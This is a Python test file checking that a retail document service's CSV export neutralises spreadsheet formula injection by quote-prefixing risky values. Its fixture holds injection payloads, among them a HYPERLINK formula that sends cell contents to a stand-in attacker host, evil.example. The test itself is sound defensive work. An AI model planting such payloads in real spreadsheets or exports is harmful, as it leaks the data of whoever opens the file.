"""A document's export opens in a spreadsheet as the text it read, never as a formula it would run."""

import csv
import io

from smartretail.adapters.memory import MemoryItemStore, MemoryObjectStore
from smartretail.documents.service import DOCUMENT, DocumentService
from smartretail.spreadsheet import csv_text

INJECTED = {"vendor_name": '=HYPERLINK("http://evil.example/?d="&A1,"click")', "invoice_number": "@SUM(1+1)",
            "buyer_name": "+1+1", "vendor_address": "-2+3", "currency": "\tINR"}


def test_text_a_spreadsheet_would_run_is_exported_as_text():
    items = MemoryItemStore()
    fields = {name: {"value": value, "confidence": 0.9, "text": value} for name, value in INJECTED.items()}
    fields["total"] = {"value": -12.5, "confidence": 0.99, "text": "-12.50"}
    items.put("t1", DOCUMENT + "doc-1", {"doc_id": "doc-1", "doc_type": "invoice", "status": "pass", "fields": fields,
                                         "reasons": [], "rules": []})
    body, media_type = DocumentService(MemoryObjectStore(), items, "docs").export("t1", "doc-1", "csv")
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(body)) if row["section"] == "field"}
    assert media_type == "text/csv"
    for name, value in INJECTED.items():
        assert rows[name]["value"] == "'" + value
        assert rows[name]["detail"] == "'" + value
    assert rows["total"]["value"] == "-12.5"  # a number stays a number


def test_ordinary_text_is_written_as_it_is():
    assert csv_text(["a", "b"], [["Sharma Traders", "INV/2026/0042"]]) == "a,b\r\nSharma Traders,INV/2026/0042\r\n"
